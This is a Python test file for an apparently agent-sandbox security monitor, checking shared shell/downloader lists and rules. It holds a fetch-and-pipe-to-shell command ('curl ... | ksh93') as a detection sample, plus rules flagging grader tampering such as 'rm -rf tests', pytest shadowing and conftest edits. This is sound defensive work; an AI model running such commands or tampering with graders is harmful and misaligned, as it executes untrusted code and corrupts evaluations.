"""One vocabulary: the analyser and every pack read the same lists (vocabulary.yaml)."""

from __future__ import annotations

from bastion.analysis import analyzer, analyze_command
from bastion.policy import Policy
from bastion.rules import PackSource, compile_sources, load_ruleset
from bastion.rules.loader import builtin_pack_names, builtin_pack_source, grader_lists
from bastion.rules.testing import command_event
from bastion.rules.vocabulary import vocabulary


def test_analyser_uses_the_vocabulary_lists() -> None:
    v = vocabulary()
    assert analyzer.SHELLS == v["shell_binaries"] - {"pwsh"}
    assert analyzer.DOWNLOADERS == v["downloader_binaries"]
    assert analyzer.RUNNERS == v["runner_binaries"]
    # a shell added to the vocabulary is a shell for the analyser too
    assert {"yash", "mksh", "ksh93"} <= analyzer.SHELLS
    assert "pipe_to_shell" in analyze_command("curl -s http://203.0.113.10/x | ksh93")["cmd.features"]


def test_packs_define_no_list_of_their_own_shells() -> None:
    # The five disagreeing shell lists are gone: packs refer to shell_binaries.
    for name in builtin_pack_names():
        text = builtin_pack_source(name).text
        assert "- list: shells_names" not in text and "- list: privesc_runners" not in text
        assert "(sh, bash, dash, zsh" not in text, name


def test_a_policy_file_can_name_vocabulary_lists() -> None:
    rs = compile_sources([PackSource("mine", "mine.yaml", """- requires_engine: 1
- rule: mine.shell_from_python
  desc: a python process whose parent is any shell of the shared vocabulary
  condition: kind = exec and proc.name = python3 and proc.pname in (shell_binaries)
  severity: low
""")])
    assert rs.rule("mine.shell_from_python")


def test_grader_lists_come_from_the_policy() -> None:
    lists = grader_lists(Policy.from_dict({"sandbox": {"protected": ["tests", "/grader/"],
                                                       "hidden": ["/answers", "/root"]}}))
    assert lists["grader_paths"] == ["/workspace/tests", "/grader"]
    assert "/workspace/conftest.py" in lists["grader_conftests"]
    assert "/workspace/tests/conftest.py" in lists["grader_conftests"]
    assert lists["grader_hidden_paths"] == ["/answers"]  # /root is bastion's own mask
    # pytest's configuration and a module standing in for pytest, where the grader runs
    assert "/workspace/pytest.ini" in lists["grader_pytest_configs"]
    assert "/workspace/tests/pyproject.toml" in lists["grader_pytest_configs"]
    assert "/workspace/pytest.py" in lists["grader_pytest_shadows"]
    assert "/workspace/_pytest" in lists["grader_pytest_shadows"]
    assert not any(p.startswith("/workspace/src/") for p in lists["grader_pytest_shadows"])
    # no grader, no reward-integrity verdicts on the same acts
    plain = load_ruleset(Policy.default())
    assert plain.matching_rule_ids(command_event("rm -rf tests")) == []
    graded = load_ruleset(Policy.from_dict({"sandbox": {"protected": ["tests"]}}))
    assert graded.matching_rule_ids(command_event("rm -rf tests")) == [
        "reward_integrity.modify_grader"]
    assert graded.policy_hash != plain.policy_hash
